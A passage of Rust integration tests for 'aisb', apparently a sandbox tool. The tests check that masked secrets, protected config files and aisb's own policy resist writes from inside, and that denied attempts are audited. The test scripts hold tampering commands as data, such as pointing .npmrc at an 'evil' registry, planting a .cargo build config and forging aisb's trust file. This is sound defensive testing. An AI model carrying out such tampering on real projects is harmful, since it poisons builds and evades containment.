             mkdir -p .xdg/cache/aisb/scan 2>/dev/null; echo forged > .xdg/cache/aisb/scan/x 2>/dev/null; echo forge=$?; \
             mkdir -p .xdg/config/aisb 2>/dev/null; echo x > .xdg/config/aisb/trust 2>/dev/null; echo trust=$?",
        );
        assert_eq!(o.code, 0, "{who} {}\n{}", o.stdout, o.stderr);
        o.expect("seen", "0");
        o.expect_failed("forge", "aisb's cache is not the sandbox's to write");
        o.expect_failed(
            "trust",
            "aisb's configuration is not the sandbox's to write",
        );
        let o = run("cat notes.txt; echo read=$?");
        assert!(!o.stdout.contains("SECRET"), "{who} {}", o.stdout);
        o.expect_failed("read", "still masked in the next run");
    }
}

as_root_and_a_user!(aisb_state_inside_the_project_is_masked_as_root, aisb_state_inside_the_project_is_masked_as_a_user => own_state);

/// `aisb test` includes the protected files: each is tried for writing from inside.
#[test]
fn aisb_test_checks_the_protected_files() {
    if !support::root_or_skip("the protected-file suite") {
        return;
    }
    let p = Project::new(None);
    let out = p.aisb(&["test", "--json"]).output().unwrap();
    let checks: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    for file in ["sandbox.kdl", ".vscode"] {
        let c = checks
            .as_array()
            .unwrap()
            .iter()
            .find(|c| {
                c["check"]
                    .as_str()
                    .unwrap()
                    .starts_with(&format!("write {}", p.proj().join(file).display()))
            })
            .unwrap_or_else(|| panic!("no check for {file}: {checks:#}"));
        assert_eq!(c["ok"], true, "{c}");
    }
}

/// What the host made just before a run (an orchestrator that checks out a work tree and
/// starts aisb at once, a test that writes its fixture) is the host's, however close to the
/// start: never taken for the sandbox's and moved aside. Several times each, the files made
/// as late as possible, right before aisb starts.
fn made_just_before(user: Option<(u32, u32)>) {
    for backend in ["bwrap", "libcontainer"] {
        let who = who(backend, user);
        let p = Project::new(user);
        for round in 0..4 {
            let sub = p.proj().join(format!("w{round}"));
            std::fs::create_dir_all(sub.join("bin")).unwrap();
            std::fs::write(sub.join(".envrc"), "export A=1\n").unwrap();
            std::fs::write(sub.join(".npmrc"), "registry=host\n").unwrap();
            std::os::unix::fs::symlink("/usr/bin/python3", sub.join("bin/python")).unwrap();
            std::os::unix::fs::symlink(".", sub.join(".cargo")).unwrap();
            if let Some((uid, gid)) = user {
                support::chown_r(&sub, uid, gid);
            }
            let o = p.run(backend, "true");
            assert_eq!(o.code, 0, "{who} {}", o.stderr);
            assert!(
                !o.stderr.contains("was created by the sandbox"),
                "{who} round {round}: the host's own files were taken for the sandbox's:\n{}",
                o.stderr
            );
            for rel in [".envrc", ".npmrc", "bin/python", ".cargo"] {
                assert!(
                    sub.join(rel).symlink_metadata().is_ok(),
                    "{who} round {round}: w{round}/{rel} the host made is gone:\n{}",
                    o.stderr
                );
            }
        }
    }
}

as_root_and_a_user!(files_the_host_made_just_before_a_run_stay_as_root, files_the_host_made_just_before_a_run_stay_as_a_user => made_just_before);

/// `unprotect` opens named protected files to the sandbox, and only those: asked about as a
/// loosening (refused without a terminal, approved by `aisb trust`); the opened ones are
/// written in place and stay after the run, every other protected file is read-only or moved
/// aside as before. aisb's own policy and files that are not protected cannot be named.
fn unprotect_case(user: Option<(u32, u32)>) {
    for backend in ["bwrap", "libcontainer"] {
        let who = who(backend, user);
        let p = Project::new(user);
        let config = "block \"notes.txt\"\nunprotect \".vscode/\" \".envrc\" \"pkg/.npmrc\"\n";
        std::fs::write(p.proj().join("sandbox.kdl"), config).unwrap();
        std::fs::create_dir_all(p.proj().join("pkg")).unwrap();
        if let Some((uid, gid)) = user {
            support::chown_r(&p.proj(), uid, gid);
        }
        std::fs::create_dir_all(p.proj().join(".vscode/x")).unwrap();
        std::fs::write(p.proj().join(".vscode/x/.npmrc"), "registry=host\n").unwrap();
        let script = "echo '{\"x\":1}' > .vscode/settings.json; echo vscode=$?; \
             mkdir -p .vscode/w && echo 'export C=1' > .vscode/w/.envrc; echo vscode-envrc=$?; \
             echo 'registry=evil' > .vscode/x/.npmrc 2>/dev/null; echo vscode-npmrc=$?; \
             echo 'export A=1' > .envrc; echo envrc=$?; \
             echo 'registry=mine' > pkg/.npmrc; echo pkg-npmrc=$?; \
             echo 'registry=evil' > .npmrc; echo npmrc=$?; \
             echo 'export B=1' > pkg/.envrc; echo pkg-envrc=$?; \
             echo x > .cargo/config.toml 2>/dev/null; echo cargo=$?";
        // Not approved yet: refused, nothing ran.
        let o = p.run(backend, script);
        assert_ne!(
            o.code, 0,
            "{who} an unapproved unprotect ran:\n{}",
            o.stdout
        );
        assert!(
            o.stderr.contains("unprotect \".vscode/\""),
            "{who} the loosening is not named:\n{}",
            o.stderr
        );
        assert!(!p.exists(".envrc"), "{who}");
        let o = Out::from(p.aisb(&["trust"]).output().unwrap());
        assert_eq!(o.code, 0, "{who} {}", o.stderr);
        let o = p.run(backend, script);
        assert_eq!(o.code, 0, "{who} {}\n{}", o.stdout, o.stderr);
        for k in [
            "vscode",
            "vscode-envrc",
            "envrc",
            "pkg-npmrc",
            "npmrc",
            "pkg-envrc",
        ] {
            o.expect(k, "0");
        }
        // Inside an opened directory, the protected names stay protected.
        o.expect_failed(
            "vscode-npmrc",
            "a protected file inside an opened directory stays read-only",
        );
        assert_eq!(
            p.read(".vscode/x/.npmrc").as_deref(),
            Some("registry=host\n"),
            "{who}"
        );
        moved_aside(&p, &o, &who, ".vscode/w/.envrc");
        o.expect_failed("cargo", "a protected file not named stays read-only");
        assert_eq!(
            p.read(".vscode/settings.json").as_deref(),
            Some("{\"x\":1}\n"),
            "{who} {}",
            o.stderr
        );
        assert_eq!(
            p.read(".envrc").as_deref(),
            Some("export A=1\n"),
            "{who} {}",
            o.stderr
        );
        assert_eq!(
            p.read("pkg/.npmrc").as_deref(),
            Some("registry=mine\n"),
            "{who} {}",
            o.stderr
        );
        moved_aside(&p, &o, &who, ".npmrc");
        moved_aside(&p, &o, &who, "pkg/.envrc");
        assert_eq!(
            p.read(".cargo/config.toml").as_deref(),
            Some("# host\n"),
            "{who}"
        );
        // What cannot be opened, at its span.
        for (value, says) in [
            ("sandbox.kdl", "aisb's own policy is never writable inside"),
            (
                "sub/sandbox.kdl",
                "aisb's own policy is never writable inside",
            ),
            ("README", "not a file the host's tools"),
            ("../x/.envrc", "not a protected file's name"),
            ("pkg/.vscode/", "a protected directory below the top"),
            (".vscode/settings.json", "not a file the host's tools"),
            ("vendor/lib/.git", "a git repository's configuration"),
        ] {
            std::fs::write(
                p.proj().join("sandbox.kdl"),
                format!("unprotect \"{value}\"\n"),
            )
            .unwrap();
            let o = Out::from(p.aisb(&["check"]).output().unwrap());
            assert_ne!(o.code, 0, "{who} unprotect {value} was accepted");
            assert!(
                o.stderr.contains(says) && o.stderr.contains("sandbox.kdl:1"),
                "{who} {value}: {}",
                o.stderr
            );
        }
    }
}

as_root_and_a_user!(unprotect_opens_only_what_it_names_as_root, unprotect_opens_only_what_it_names_as_a_user => unprotect_case);

/// aisb killed while its sandbox had put a file of its own under a protected name the run had
/// bound read-only (the directory holding the original renamed away, a new one made): the next
/// start moves it aside instead of taking it for the host's and binding it.
fn killed_swap(user: Option<(u32, u32)>) {
    for backend in ["bwrap", "libcontainer"] {
        let who = who(backend, user);
        let p = Project::new(user);
        let mut child = p
            .cmd(
                backend,
                "mv .cargo .cargo-old && mkdir .cargo && echo '[build] planted' > .cargo/config.toml; sleep 60",
            )
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
        while p.read(".cargo/config.toml").as_deref() != Some("[build] planted\n")
            && std::time::Instant::now() < deadline
        {
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
        assert_eq!(
            p.read(".cargo/config.toml").as_deref(),
            Some("[build] planted\n"),
            "{who} the sandbox never swapped .cargo"
        );
        child.kill().unwrap();
        child.wait().unwrap();
        // Meanwhile the user's editor saves two bound files by a rename (new inodes, their
        // directories as they were): they stay the user's.
        let save = |rel: &str, text: &str| {
            let tmp = p.proj().join(format!("{rel}.swp"));
            std::fs::write(&tmp, text).unwrap();
            if let Some((uid, gid)) = user {
                std::os::unix::fs::chown(&tmp, Some(uid), Some(gid)).unwrap();
            }
            std::fs::rename(&tmp, p.proj().join(rel)).unwrap();
        };
        save("sandbox.kdl", "block \"notes.txt\"\n// saved\n");
        save(".vscode/settings.json", "{\"saved\": 1}\n");
        let o = p.run(backend, "cat .cargo/config.toml 2>/dev/null; echo seen=$?");
        assert_eq!(o.code, 0, "{who} {}", o.stderr);
        assert!(
            !o.stdout.contains("planted"),
            "{who} the killed run's planted file was taken for the host's:\n{}\n{}",
            o.stdout,
            o.stderr
        );
        assert!(
            p.read(".cargo/config.toml").is_none(),
            "{who} still in the project: {}",
            o.stderr
        );
        assert!(
            o.stderr
                .contains(".cargo/config.toml was created by the sandbox"),
            "{who} not reported: {}",
            o.stderr
        );
        assert_eq!(
            p.read("sandbox.kdl").as_deref(),
            Some("block \"notes.txt\"\n// saved\n"),
            "{who} the user's saved policy was taken for the sandbox's: {}",
            o.stderr
        );
        assert_eq!(
            p.read(".vscode/settings.json").as_deref(),
            Some("{\"saved\": 1}\n"),
            "{who} {}",
            o.stderr
        );
        // The same save while a run goes on: still the user's at its end.
        let child = p
            .cmd(backend, "sleep 3")
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        std::thread::sleep(std::time::Duration::from_millis(1500));
        save(".vscode/settings.json", "{\"saved\": 2}\n");
        let out = child.wait_with_output().unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(
            p.read(".vscode/settings.json").as_deref(),
            Some("{\"saved\": 2}\n"),
            "{who} saved during a run, moved at its end: {stderr}"
        );
    }
}

as_root_and_a_user!(a_swap_under_a_bound_name_is_caught_after_a_kill_as_root, a_swap_under_a_bound_name_is_caught_after_a_kill_as_a_user => killed_swap);

as_root_and_a_user!(
    a_sandbox_that_fills_its_layers_is_stopped_as_root,
    a_sandbox_that_fills_its_layers_is_stopped_as_a_user => disk_budget
);

/// The host's disk is bounded too (issue 29 item 6): a sandbox whose copy-on-write layer
/// (`project access="overlay"`) grows past `limits { disk … }` (128 MiB) is stopped, the run
/// fails with the reason and an audit event says so. Half of its 240 MiB are written into a
/// directory that is then made unreadable (`chmod 000`): an ordinary user's walk cannot look
/// inside, and the file system's drop in free space stands for it (the margin over the
/// budget is wide: files others remove meanwhile give space back). So is a file removed while
/// open. A run that stays under the budget is not stopped.
fn disk_budget(user: Option<(u32, u32)>) {
    // One at a time: the other's files, removed meanwhile, would give back free space that
    // the hidden half's accounting (the file system's drop) counts on.
    static ONE: std::sync::Mutex<()> = std::sync::Mutex::new(());
    let _one = ONE.lock().unwrap_or_else(|e| e.into_inner());
    for backend in ["bwrap", "libcontainer"] {
        let who = who(backend, user);
        let p = Project::new(user);
        std::fs::write(
            p.proj().join("sandbox.kdl"),
            format!("{CONFIG}project access=\"overlay\"\nlimits {{\n    disk \"128M\"\n}}\n"),
        )
        .unwrap();
        let o = p.run(
            backend,
            "dd if=/dev/zero of=small bs=1M count=4 2>/dev/null; sleep 1; echo KEPT=yes",
        );
        assert_eq!(
            o.code, 0,
            "{who} under the budget: {}\n{}",
            o.stdout, o.stderr
        );
        o.expect("KEPT", "yes");
        let started = std::time::Instant::now();
        let o = p.run(
            backend,
            "mkdir hide && dd if=/dev/zero of=hide/big bs=1M count=120 2>/dev/null && sync && chmod 000 hide && echo HIDDEN=yes; \
             dd if=/dev/zero of=seen bs=1M count=120 2>/dev/null; sync; sleep 15; echo SURVIVED=yes",
        );
        o.expect("HIDDEN", "yes");
        assert!(
            o.value("SURVIVED").is_none() && o.code != 0,
            "{who} a sandbox past its disk budget went on ({}): {}\n{}",
            o.code,
            o.stdout,
            o.stderr
        );
        let said: String = o
            .stderr
            .split_whitespace()
            .filter(|w| *w != "│")
            .collect::<Vec<_>>()
            .join(" ");
        assert!(
            said.contains("past its disk budget of 128M") && said.contains("sandbox.kdl:"),
            "{who} the reason:\n{}",
            o.stderr
        );
        assert!(
            started.elapsed() < std::time::Duration::from_secs(12),
            "{who} stopped only after {:?}",
            started.elapsed()
        );
        let logs = p.audit_logs();
        let text: String = logs
            .iter()
            .map(|l| std::fs::read_to_string(l).unwrap())
            .collect();
        assert!(
            text.contains("\"event\":\"limit\"") && text.contains("disk (bytes)"),
            "{who} no audit event:\n{text}"
        );
        // The host's project never saw the writes (they were the layer's).
        assert!(!p.exists("hide") && !p.exists("small"), "{who}");
        // A file removed while open holds its blocks where no walk finds them.
        let o = p.run(
            backend,
            "exec 3>gone && rm gone && echo REMOVED=yes && dd if=/dev/zero bs=1M count=240 >&3 2>/dev/null; \
             sleep 15; echo SURVIVED=yes",
        );
        o.expect("REMOVED", "yes");
        assert!(
            o.value("SURVIVED").is_none() && o.code != 0,
            "{who} a file removed while open filled the layer unseen ({}): {}\n{}",
            o.code,
            o.stdout,
            o.stderr
        );
    }
}

as_root_and_a_user!(
    a_run_started_in_a_masked_directory_sees_the_mask_as_root,
    a_run_started_in_a_masked_directory_sees_the_mask_as_a_user => masked_cwd
);

/// `aisb run` from inside a masked directory: the workload starts there (by name), so it sees
/// the mask, never the directory below it. Under bwrap as root the init mounted the masks after
/// bwrap had entered the working directory, and the workload's `cat key.txt` read the secret
/// through the old inode; the same held for the project under `project access="overlay"`,
/// where the workload started in the empty directory below the overlay.
fn masked_cwd(user: Option<(u32, u32)>) {
    for backend in ["bwrap", "libcontainer"] {
        let who = who(backend, user);
        let p = Project::new(user);
        std::fs::create_dir_all(p.proj().join("secrets")).unwrap();
        std::fs::write(p.proj().join("secrets/key.txt"), "TOPSECRET\n").unwrap();
        for config in ["", "project access=\"overlay\"\n"] {
            std::fs::write(
                p.proj().join("sandbox.kdl"),
                format!("{CONFIG}block \"secrets/\"\n{config}"),
            )
            .unwrap();
            let mut cmd = p.cmd(
                backend,
                "cat key.txt 2>&1; echo LISTED=$(ls -A | wc -l); echo TOP=$(ls -A ..)",
            );
            cmd.current_dir(p.proj().join("secrets"));
            let o = Out::from(cmd.output().unwrap());
            assert_eq!(o.code, 0, "{who} {config}{}\n{}", o.stdout, o.stderr);
            assert!(
                !o.stdout.contains("TOPSECRET"),
                "{who} {config}the secret read from the working directory:\n{}",
                o.stdout
            );
            o.expect("LISTED", "0");
            // The project around it is the project (under the overlay too).
            assert!(
                o.value("TOP").is_some_and(|t| t.contains("README")),
                "{who} {config}{}",
                o.stdout
            );
        }
    }
}

as_root_and_a_user!(
    attempts_on_masked_paths_are_in_the_audit_log_as_root,
    attempts_on_masked_paths_are_in_the_audit_log_as_a_user => file_denials
);

/// Issue 32 item 1: every attempt on a masked path is an audit event: a read of a masked
/// file (twice: the repeat counted), a write to it, a listing of a masked directory and a name
/// looked up in it, each with the rule, the process and what was tried; the sandbox still
/// gets "Permission denied" and an empty directory. `aisb audit --blocked-only` shows them.
/// Opening the layer's own files (`/run/aisb/deny/N`) reports nothing (else the sandbox could
/// write attempts on paths it never touched).
fn file_denials(user: Option<(u32, u32)>) {
    for backend in ["bwrap", "libcontainer"] {
        let who = who(backend, user);
        let p = Project::new(user);
        std::fs::write(p.proj().join(".env"), "TOKEN=hunter2\n").unwrap();
        std::fs::create_dir_all(p.proj().join("secrets")).unwrap();
        std::fs::write(p.proj().join("secrets/key.pem"), "PRIVATE\n").unwrap();
        std::fs::write(
            p.proj().join("sandbox.kdl"),
            format!("{CONFIG}block \"secrets/\"\n"),
        )
        .unwrap();
        // The layer lands once the sandbox is complete: waited for (bounded) by its files.
        let o = p.run(
            backend,
            "for i in $(seq 100); do [ $(grep -c aisb-deny /proc/self/mountinfo) -ge 3 ] && break; sleep 0.1; done; \
             cat /run/aisb/deny/0 /run/aisb/deny/1 2>/dev/null; \
             cat .env 2>&1; cat .env 2>/dev/null; echo LISTED=$(ls -A secrets | wc -l); \
             cat secrets/key.pem 2>/dev/null; (echo x > .env) 2>/dev/null; echo DONE=yes",
        );
        assert_eq!(o.code, 0, "{who} {}\n{}", o.stdout, o.stderr);
        o.expect("DONE", "yes");
        o.expect("LISTED", "0");
        assert!(
            o.stdout.contains("Permission denied") && !o.stdout.contains("hunter2"),
            "{who} {}",
            o.stdout
        );
        let events: Vec<serde_json::Value> = p
            .audit_logs()
            .iter()
            .flat_map(|l| {
                std::fs::read_to_string(l)
                    .unwrap()
                    .lines()
                    .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
                    .collect::<Vec<_>>()
            })
            .filter(|e| e["event"] == "file")
            .collect();
        let proj = p.proj().display().to_string();
        let of = |op: &str, target: &str| -> Vec<&serde_json::Value> {
            events
                .iter()
                .filter(|e| e["operation"] == op && e["target"] == format!("{proj}/{target}"))
                .collect()
        };
        let reads = of("read", ".env");
        let tries: u64 = reads.iter().map(|e| e["count"].as_u64().unwrap_or(1)).sum();
        assert_eq!(tries, 2, "{who} two reads of .env:\n{events:#?}");
        assert!(
            reads[0]["command"]
                .as_str()
                .is_some_and(|c| c.starts_with("cat"))
                && reads[0]["rule"]
                    .as_str()
                    .is_some_and(|r| r.contains(".env"))
                && reads[0]["result"] == "blocked"
                && reads[0]["pid"].as_u64().is_some_and(|p| p > 1),
            "{who} {:#?}",
            reads[0]
        );
        assert!(
            !of("write", ".env").is_empty(),
            "{who} the write:\n{events:#?}"
        );
        let listed = of("list", "secrets");
        assert!(
            listed
                .first()
                .is_some_and(|e| e["rule"].as_str().is_some_and(|r| r.contains("secrets/"))),
            "{who} the listing:\n{events:#?}"
        );
        assert!(
            !of("lookup", "secrets/key.pem").is_empty(),
            "{who} the name looked up:\n{events:#?}"
        );
        let o = Out::from(p.aisb(&["audit", "--blocked-only"]).output().unwrap());
        assert!(
            o.stdout.contains(&format!("DENY   read {proj}/.env")),
            "{who} aisb audit:\n{}\n{}",
            o.stdout,
            o.stderr
        );
        // The seed's format, filtered by kind and time.
        let o = Out::from(
            p.aisb(&["audit", "--json", "--kind", "file", "--since", "10m"])
                .output()
                .unwrap(),
        );
        let lines: Vec<serde_json::Value> = o
            .stdout
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        assert!(
            !lines.is_empty() && lines.iter().all(|l| l["event"] == "file"),
            "{who} {}",
            o.stdout
        );
        let first = &lines[0];
        assert!(
            first["timestamp"]
                .as_str()
                .is_some_and(|t| t.ends_with('Z') && t.contains('T'))
                && first["operation"] == "read"
                && first["target"] == format!("{proj}/.env")
                && first["result"] == "blocked"
                && first["policy"] == "mask"
                && first["reason"].as_str().is_some_and(|r| r.contains(".env")),
            "{who} {first:#}"
        );
        let o = Out::from(p.aisb(&["audit", "--kind", "net"]).output().unwrap());
        assert!(!o.stdout.contains("DENY"), "{who} {}", o.stdout);
    }
}
